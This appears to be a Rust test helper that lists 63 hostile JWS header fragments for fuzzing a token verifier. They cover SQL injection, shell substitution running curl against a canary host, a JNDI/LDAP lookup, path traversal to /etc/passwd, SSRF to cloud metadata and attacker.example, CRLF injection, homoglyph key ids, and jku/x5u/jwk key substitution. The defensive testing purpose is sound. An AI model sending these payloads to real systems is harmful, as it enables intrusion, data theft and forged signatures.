//! What attackers write into the header of a JWS so that a reader fetches or trusts another key than the issuer's.

/// The members behind `"alg"`: `KID` stands for the address of the issuer's key, `CANARY` for an address that nobody may
/// ask, `ATTACKER` for the attacker's Ed25519 key as a JWK has it, `HUGE` for 40,000 letters.
const INJECTIONS: [&str; 63] = [
    // SQL, commands, templates
    r#""kid":"' OR '1'='1""#,
    r#""kid":"x' UNION SELECT 'AAAA' -- ""#,
    r#""kid":"1; DROP TABLE keys; --""#,
    r#""kid":"1) OR pg_sleep(10) --""#,
    r#""kid":"KID' AND '1'='1""#,
    r#""kid":"$(curl CANARY)""#,
    r#""kid":"`curl CANARY`""#,
    r#""kid":"| curl CANARY""#,
    r#""kid":"${jndi:ldap://CANARY/a}""#,
    r#""kid":"{{7*7}}""#,
    r#""kid":"%s%s%n""#,
    // paths
    r#""kid":"../../../../../../dev/null""#,
    r#""kid":"/dev/null""#,
    r#""kid":"/proc/self/environ""#,
    r#""kid":"file:///etc/passwd""#,
    r#""kid":"..\\..\\windows\\win.ini""#,
    r#""kid":"KID/../1""#,
    r#""kid":"KID/%2e%2e/1""#,
    // addresses
    r#""kid":"CANARY/key""#,
    r#""kid":"//CANARY/key""#,
    r#""kid":"https://attacker.example/keys/1""#,
    r#""kid":"http://169.254.169.254/latest/meta-data""#,
    r#""kid":"KID@attacker.example""#,
    r#""kid":"KID#CANARY""#,
    r#""kid":"KID?next=CANARY""#,
    r#""kid":"data:application/x-pem-file;base64,AAAA""#,
    r#""kid":"gopher://CANARY/_""#,
    r#""kid":"ldap://CANARY/cn=key""#,
    // another spelling of the right one
    r#""kid":"KID/""#,
    r#""kid":"KID ""#,
    r#""kid":" KID""#,
    r#""kid":"KID\u0000""#,
    r#""kid":"KID\u0000.attacker.example""#,
    r#""kid":"KID\r\nHost: attacker.example""#,
    r#""kid":"KID\u200b""#,
    r#""kid":"\u202eKID""#,
    r#""kid":"\ufeffKID""#,
    r#""kid":"https://b\u0430dges.example/keys/1""#,
    r#""kid":"HTTPS://BADGES.EXAMPLE/keys/1""#,
    r#""kid":"https://badges.example:443/keys/1""#,
    r#""kid":"https://badges.example./keys/1""#,
    // no text, too much of it, twice
    r#""kid":"""#,
    r#""kid":"HUGE""#,
    r#""kid":["KID"]"#,
    r#""kid":{"url":"KID"}"#,
    r#""kid":0"#,
    r#""kid":null"#,
    r#""kid":true"#,
    r#""kid":"KID","kid":"CANARY""#,
    r#""kid":"CANARY","kid":"KID""#,
    r#""kid":"KID","\u006bid":"CANARY""#,
    // keys and certificates brought along
    r#""kid":"KID","jku":"CANARY/jwks.json""#,
    r#""kid":"KID","jku":["CANARY/jwks.json"]"#,
    r#""kid":"KID","jku":"file:///dev/null""#,
    r#""kid":"KID","jku":"KID#@CANARY""#,
    r#""kid":"KID","x5u":"CANARY/certificate.pem""#,
    r#""kid":"KID","x5u":{"url":"CANARY"}"#,
    r#""kid":"KID","jwk":{"kty":"OKP","crv":"Ed25519","x":"ATTACKER"}"#,
    r#""jwk":{"kty":"OKP","crv":"Ed25519","x":"ATTACKER","kid":"KID"}"#,
    r#""kid":"KID","jwk":{"kty":"oct","k":""}"#,
    r#""kid":"KID","x5c":["ATTACKER"]"#,
    r#""kid":"KID","x5t#S256":"ATTACKER","x5c":"CANARY""#,
    r#""kid":"KID","iss":"CANARY","url":"CANARY""#,
];

/// Each as the members to put behind `"alg":"…",`. `canary` is an address such as `http://127.0.0.1:1234`; `attacker` the
/// attacker's public key, 32 bytes in base64url.
pub fn injections(kid: &str, canary: &str, attacker: &str) -> Vec<String> {
    INJECTIONS
        .iter()
        .map(|members| {
            members
                .replace("KID", kid)
                .replace("CANARY", canary)
                .replace("ATTACKER", attacker)
                .replace("HUGE", &"A".repeat(40_000))
        })
        .collect()
}
